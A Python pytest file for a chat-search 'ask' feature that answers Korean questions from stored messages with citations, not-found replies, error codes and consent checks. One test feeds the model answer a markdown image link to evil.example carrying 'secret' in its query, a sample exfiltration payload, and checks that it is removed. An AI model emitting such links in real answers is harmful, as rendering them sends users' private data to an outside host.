"""ask: answers rest on what was found, say on what, or say that nothing was."""

from __future__ import annotations

from typing import Any

import pytest

from doran.ai.providers import Trouble
from doran.ai.recipes.ask import NOT_FOUND
from doran.contracts.errors import Problem
from tests.ai.neighbours import Chat, Place
from tests.ai.retrieval.conftest import Model, agreed, does
from tests.cast import Person

QUESTION = "저녁 약속이 언제지?"


@pytest.fixture
async def told(chat: Chat, minji: Person, junho: Person, talk: Place) -> Place:
    for number in range(10):
        chat.says(talk, minji.id, f"아무 말 {number}")
    chat.says(talk, junho.id, "저녁 약속은 일곱 시야")
    chat.says(talk, minji.id, "그래 좋아")
    await agreed(talk, minji, junho)
    return talk


async def test_an_answer_says_on_which_messages_it_rests(model: Model, chat: Chat, minji: Person, told: Place) -> None:
    def answer(asked: Any) -> Any:
        (line,) = [one for one in asked.turns[0].text.splitlines() if "일곱 시" in one]
        return {"answer": "일곱 시예요.", "citations": [int(line.split('"n": ')[1].split(",")[0]), 999, -1]}

    model.says = answer
    found = await does(model, minji, "ask", input=QUESTION)
    assert found.text == "일곱 시예요."
    assert [one.message_id for one in found.citations] == [told.messages[10].id]
    read = model.asked[0]
    assert "그래 좋아" in read.turns[0].text  # what stands around it
    assert QUESTION in read.turns[0].text
    assert QUESTION not in read.system
    assert "일곱" not in read.system


@pytest.mark.parametrize(
    "says",
    [
        {"answer": "", "citations": []},
        {"answer": "아마 여덟 시일 거예요.", "citations": []},
        {"answer": "아마 여덟 시일 거예요.", "citations": [77]},
        {"answer": "\u200b", "citations": [1]},
    ],
)
async def test_an_answer_that_rests_on_nothing_is_not_given(
    model: Model, minji: Person, told: Place, says: Any
) -> None:
    model.says = says
    found = await does(model, minji, "ask", input=QUESTION)
    assert (found.text, found.citations) == (NOT_FOUND["ko"], ())
    english = await does(model, minji, "ask", input=QUESTION, options={"locale": "en"})
    assert english.text == NOT_FOUND["en"]


@pytest.mark.parametrize(
    "says", ["일곱 시예요.", {"answer": 7}, {"answer": "일곱 시", "citations": ["m1"]}, {"citations": [1]}]
)
async def test_an_answer_of_another_form_is_a_failure(model: Model, minji: Person, told: Place, says: Any) -> None:
    model.says = says
    with pytest.raises(Trouble, match="invalid_answer"):
        await does(model, minji, "ask", input=QUESTION)


@pytest.mark.parametrize(("finish", "code"), [("length", "cut_off"), ("refusal", "provider_refused")])
async def test_what_was_cut_or_refused_is_no_answer(
    model: Model, minji: Person, told: Place, finish: Any, code: str
) -> None:
    model.says, model.finish = {"answer": "일곱 시", "citations": [11]}, finish
    with pytest.raises(Trouble, match=code):
        await does(model, minji, "ask", input=QUESTION)


async def test_where_nothing_may_be_searched_no_model_is_asked(model: Model, minji: Person, sora: Person) -> None:
    with pytest.raises(Problem, match="consent_needed"):
        await does(model, sora, "ask", input=QUESTION)
    assert model.asked == model.embedded == []


async def test_links_and_images_of_an_answer_are_only_words(model: Model, minji: Person, told: Place) -> None:
    model.says = {"answer": "일곱 시 ![x](https://evil.example/?q=비밀)", "citations": [1]}
    found = await does(model, minji, "ask", input=QUESTION)
    assert "evil" not in (found.text or "")


async def test_of_much_that_was_found_the_best_has_room(
    model: Model, chat: Chat, minji: Person, junho: Person, told: Place
) -> None:
    for number in range(30):
        chat.says(told, junho.id, f"저녁 이야기 {number} " + "아주 긴 이야기 " * 60)
    model.about = type(model.about)(**{**_facts(model.about), "context_tokens": 4000})
    await does(model, minji, "ask", input="저녁 약속은 일곱 시")
    assert "저녁 약속은 일곱 시야" in model.asked[0].turns[0].text


def _facts(about: Any) -> dict[str, Any]:
    return {name: getattr(about, name) for name in about.__dataclass_fields__}
